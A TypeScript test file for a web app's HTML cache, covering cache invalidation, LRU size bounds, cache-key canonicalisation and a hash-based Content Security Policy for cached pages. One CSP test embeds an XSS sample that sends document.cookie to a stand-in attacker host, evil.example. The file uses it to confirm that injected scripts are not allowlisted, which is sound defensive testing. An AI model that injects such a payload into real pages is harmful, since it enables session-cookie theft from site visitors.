import { createHash } from 'node:crypto';

import { afterEach, describe, expect, it } from 'vitest';

import {
  appliedPublicGeneration,
  cacheGeneration,
  catchUpPublicCache,
  HTML_CACHE_TTL_MS,
  invalidatePublicCache,
  stillCurrent,
} from '#app/services/cache/html-cache.server.ts';
import { publicCacheKey } from '#server/public/cache-key.ts';
import { cspForCachedPage } from '#server/public/cached-answer.ts';
import {
  type CachedPage,
  cachedPageBytes,
  configureHtmlCache,
  HTML_CACHE_DEFAULT_MAX_BYTES,
  htmlCacheStats,
  readCachedPage,
  readStalePage,
  storeCachedPage,
} from '#server/public/page-store.ts';

const page = (text: string): CachedPage => ({
  status: 200,
  body: Buffer.from(text),
  gzip: Buffer.alloc(0),
  br: Buffer.alloc(0),
  etag: `"${text}"`,
  contentType: 'text/html',
  csp: '',
  storedAt: Date.now(),
});

describe('HTML cache store', () => {
  afterEach(() => invalidatePublicCache());

  it('serves what was stored until invalidatePublicCache() is called', () => {
    storeCachedPage('en /', page('a'), cacheGeneration());
    expect(readCachedPage('en /')?.etag).toBe('"a"');
    invalidatePublicCache();
    expect(readCachedPage('en /')).toBeUndefined();
  });

  it('does not store a page rendered before an invalidation', () => {
    const generation = cacheGeneration();
    invalidatePublicCache();
    expect(storeCachedPage('en /blog', page('old'), generation)).toBe(false);
    expect(readCachedPage('en /blog')).toBeUndefined();
  });

  it('expires entries after the TTL', () => {
    storeCachedPage('en /old', { ...page('x'), storedAt: Date.now() - HTML_CACHE_TTL_MS - 1 }, cacheGeneration());
    expect(readCachedPage('en /old')).toBeUndefined();
  });

  it('keeps a page past the TTL as stale, for as long again, unless a write drops it', () => {
    storeCachedPage('/about', { ...page('s'), storedAt: Date.now() - HTML_CACHE_TTL_MS - 1 }, cacheGeneration());
    expect(readCachedPage('/about')).toBeUndefined();
    expect(readStalePage('/about')?.etag).toBe('"s"');
    invalidatePublicCache();
    expect(readStalePage('/about')).toBeUndefined();
    storeCachedPage('/old', { ...page('o'), storedAt: Date.now() - 2 * HTML_CACHE_TTL_MS - 1 }, cacheGeneration());
    expect(readStalePage('/old')).toBeUndefined();
  });

  it("an article's write drops its pages and every non-article page, and keeps the other articles", () => {
    const keys = [
      '/blog/a',
      '/fr/blog/a',
      '/blog/b',
      '/fr/blog/b',
      '/blog',
      '/blog?page=2',
      '/',
      '/fr',
      '/about',
      '/rss.xml',
      '/sitemap.xml',
    ];
    for (const key of keys) storeCachedPage(key, page(key), cacheGeneration());
    const renderedUnder = cacheGeneration();
    invalidatePublicCache(undefined, { articles: ['a'] });
    // Without a shared generation, a local invalidation drops everything.
    expect(keys.filter((key) => readCachedPage(key))).toEqual([]);

    for (const key of keys) storeCachedPage(key, page(key), cacheGeneration());
    const shared = appliedPublicGeneration() + 1;
    const before = cacheGeneration();
    void invalidatePublicCache(shared, { articles: ['a'] });
    expect(cacheGeneration()).toBe(before + 1);
    expect(keys.filter((key) => readCachedPage(key))).toEqual(['/blog/b', '/fr/blog/b']);
    // A render that started before the write may be stored for a key the write did not cover, not for one it did.
    expect(stillCurrent('/blog/b', before)).toBe(true);
    expect(stillCurrent('/blog/a', before)).toBe(false);
    expect(stillCurrent('/blog', before)).toBe(false);
    expect(stillCurrent('/blog/b', renderedUnder)).toBe(false);
    expect(storeCachedPage('/blog/a', page('old a'), before)).toBe(false);
    expect(storeCachedPage('/fr/blog/b', page('b again'), before)).toBe(true);
  });

  it('drops everything when a shared generation in between was missed, and only the scope when none was', () => {
    storeCachedPage('/blog/b', page('b'), cacheGeneration());
    const shared = appliedPublicGeneration();
    expect(catchUpPublicCache(shared + 1, { articles: ['a'] })).toBe(true);
    expect(readCachedPage('/blog/b')).toBeDefined();
    expect(catchUpPublicCache(shared + 1, { articles: ['a'] })).toBe(false);
    // shared + 2 never arrived: its scope is unknown.
    expect(catchUpPublicCache(shared + 3, { articles: ['a'] })).toBe(true);
    expect(readCachedPage('/blog/b')).toBeUndefined();
    expect(appliedPublicGeneration()).toBe(shared + 3);
  });

  it('holds at most HTML_CACHE_MAX_BYTES, dropping the least recently used first', () => {
    const big = (n: number) => page('x'.repeat(10_000) + n);
    const size = cachedPageBytes('en /p0', big(0));
    configureHtmlCache({ maxBytes: size * 3 });
    try {
      storeCachedPage('en /p0', big(0), cacheGeneration());
      storeCachedPage('en /p1', big(1), cacheGeneration());
      storeCachedPage('en /p2', big(2), cacheGeneration());
      readCachedPage('en /p0'); // p1 is now the least recently used
      storeCachedPage('en /p3', big(3), cacheGeneration());
      expect(readCachedPage('en /p1')).toBeUndefined();
      expect(readCachedPage('en /p0')).toBeDefined();
      expect(readCachedPage('en /p3')).toBeDefined();
      expect(htmlCacheStats().bytes).toBeLessThanOrEqual(size * 3);
      // An attacker requesting many distinct pages cannot grow the cache past its bound.
      for (let i = 0; i < 1000; i++) storeCachedPage(`en /flood-${i}`, big(i), cacheGeneration());
      expect(htmlCacheStats().bytes).toBeLessThanOrEqual(size * 3);
      expect(htmlCacheStats().entries).toBeLessThanOrEqual(3);
      // A page larger than the whole bound is not stored at all.
      expect(storeCachedPage('en /huge', page('y'.repeat(size * 4)), cacheGeneration())).toBe(false);
    } finally {
      configureHtmlCache({ maxBytes: HTML_CACHE_DEFAULT_MAX_BYTES });
    }
  });
});

describe('which requests the cache may answer', () => {
  const req = (path: string, query: Record<string, string> = {}, headers: Record<string, string> = {}, method = 'GET') => {
    const search = new URLSearchParams(query).toString();
    return { method, url: search ? `${path}?${search}` : path, headers };
  };

  it('keys anonymous public GETs by the URL alone, which names the language (decision 030)', () => {
    expect(publicCacheKey(req('/'))).toBe('/');
    expect(publicCacheKey(req('/blog', { page: '2' }, { 'accept-language': 'fr' }))).toBe('/blog?page=2');
    expect(publicCacheKey(req('/blog', {}, { cookie: 'lng=fr' }))).toBe('/blog');
    expect(publicCacheKey(req('/fr/blog'))).toBe('/fr/blog');
    // `/` sends a visitor who asks for another language to its home (302): that answer is never stored.
    expect(publicCacheKey(req('/', {}, { cookie: 'lng=fr' }))).toBeNull();
  });

  it('never answers signed-in visitors, flash messages, writes, admin, media files, data requests or unknown query strings', () => {
    expect(publicCacheKey(req('/', {}, { cookie: 'atelier_session=abc' }))).toBeNull();
    expect(publicCacheKey(req('/', {}, { cookie: 'atelier_toast=abc' }))).toBeNull();
    expect(publicCacheKey(req('/', {}, {}, 'POST'))).toBeNull();
    expect(publicCacheKey(req('/admin'))).toBeNull();
    expect(publicCacheKey(req('/admin/pages'))).toBeNull();
    expect(publicCacheKey(req('/login'))).toBeNull();
    expect(publicCacheKey(req('/media/seed/hero-photo.jpg'))).toBeNull();
    expect(publicCacheKey(req('/blog.data'))).toBeNull();
    expect(publicCacheKey(req('/', { lng: 'fr' }))).toBeNull();
    expect(publicCacheKey(req('/blog', { page: 'abc' }))).toBeNull();
    expect(publicCacheKey(req('/', { utm: 'x' }))).toBeNull();
  });

  it('keys only the canonical spelling of a path: case, percent-encoding, slashes and dot segments are not cached', () => {
    expect(publicCacheKey(req('/blog/getting-started'))).toBe('/blog/getting-started');
    expect(publicCacheKey(req('/sitemap.xml'))).toBe('/sitemap.xml');
    for (const variant of [
      '/Blog',
      '/BLOG/getting-started',
      '/blog/',
      '/%62log',
      '/blog//x',
      '/./blog',
      '/blog/../about',
      '/Media/seed/hero.jpg',
      '/%6Dedia/seed/hero.jpg',
    ]) {
      expect(publicCacheKey(req(variant)), variant).toBeNull();
    }
    // ?page=1 is /blog itself; a page number only counts when it is written the one way.
    expect(publicCacheKey(req('/blog', { page: '1' }))).toBeNull();
    expect(publicCacheKey(req('/blog', { page: '02' }))).toBeNull();
    expect(publicCacheKey(req('/blog', { page: '12' }))).toBe('/blog?page=12');
    // The blog's archives are paginated as the blog is (decision 036); other pages never keep a page number.
    expect(publicCacheKey(req('/blog/category/web-development', { page: '2' }))).toBe('/blog/category/web-development?page=2');
    expect(publicCacheKey(req('/fr/blog/tag/javascript', { page: '3' }))).toBe('/fr/blog/tag/javascript?page=3');
    expect(publicCacheKey(req('/blog/tag/javascript', { page: '2', x: '1' }))).toBeNull();
    expect(publicCacheKey(req('/blog/getting-started-with-web-development', { page: '2' }))).toBeNull();
    expect(publicCacheKey(req('/about', { page: '2' }))).toBeNull();
    // A blog of a million posts has over 100,000 pages.
    expect(publicCacheKey(req('/blog', { page: '111112' }))).toBe('/blog?page=111112');
    expect(publicCacheKey(req('/blog', { page: '1000000' }))).toBeNull();
  });
});

describe('script-hash CSP for nonce-free cached pages', () => {
  const policy = "default-src 'self';script-src 'self' 'nonce-N0nce+/=';style-src 'self'";

  it('allows by hash exactly the inline scripts the app emitted with the render nonce, and drops the nonce', () => {
    const html =
      '<script src="/a.js" nonce="N0nce+/="></script><script nonce="N0nce+/=">console.log(1)</script><script type="module" nonce="N0nce+/=">import "/b.js";</script>';
    const cached = cspForCachedPage(policy, html, 'N0nce+/=');
    expect(cached.csp).not.toContain('nonce');
    expect(cached.csp.match(/'sha256-/g)).toHaveLength(2);
    expect(cached.csp).toMatch(/^default-src 'self';script-src 'self' 'sha256-[^;]+;style-src 'self'$/);
    expect(cached.html).not.toContain('nonce');
    expect(cached.html).toContain('<script>console.log(1)</script>');
  });

  it('does not allow a script injected into the page content', () => {
    const injected =
      '<p>hello</p><script>fetch("https://evil.example/?c="+document.cookie)</script><script nonce="guess">alert(1)</script>';
    const html = `<script nonce="N0nce+/=">app()</script>${injected}`;
    const cached = cspForCachedPage(policy, html, 'N0nce+/=');
    expect(cached.csp.match(/'sha256-/g)).toHaveLength(1);
    expect(cached.csp).toContain(`'sha256-${createHash('sha256').update('app()').digest('base64')}'`);
    expect(cached.html).toContain(injected);
  });

  it('scans a hostile page in linear time', () => {
    const started = performance.now();
    cspForCachedPage(policy, '<script'.repeat(200_000), 'N0nce+/=');
    cspForCachedPage(policy, `${'<script'.repeat(200_000)}>`, 'N0nce+/=');
    cspForCachedPage(policy, '<script nonce="N0nce+/=">'.repeat(100_000), 'N0nce+/=');
    // A backtracking scan takes minutes on these inputs; the bound leaves room for a loaded machine.
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
